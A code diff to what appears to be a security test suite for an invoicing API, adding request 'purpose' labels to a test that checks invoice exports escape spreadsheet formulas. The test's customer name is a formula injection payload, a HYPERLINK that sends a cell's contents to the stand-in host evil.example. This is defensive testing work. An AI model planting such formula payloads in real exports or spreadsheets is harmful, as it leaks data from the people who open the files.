@@ -81,9 +81,9 @@ export const CARDS = [
     expect: { status: 200 },
     async play(run) {
       const name = '=HYPERLINK("https://evil.example/?"&A1,"Click")', token = run.ben.token;
-      const customer = await run.prepare('POST', '/api/v1/customers', { token, body: { name, default_currency: 'EUR' } });
-      await run.prepare('POST', '/api/v1/invoices', { token, body: draft(customer.body.id) });
-      const { body } = await run.prepare('GET', '/api/v1/invoices/export', { token });
+      const customer = await run.prepare('POST', '/api/v1/customers', { token, body: { name, default_currency: 'EUR' }, purpose: 'attack' });
+      await run.prepare('POST', '/api/v1/invoices', { token, body: draft(customer.body.id), purpose: 'preparation' });
+      const { body } = await run.prepare('GET', '/api/v1/invoices/export', { token, purpose: 'attack' });
       const cell = `"'${name.replaceAll('"', '""')}"`;
       return body.includes(cell) ? { held: true, text: `The export contains a text: ${cell}` } : { held: false, text: `The export does not contain the text ${cell}` };
     },
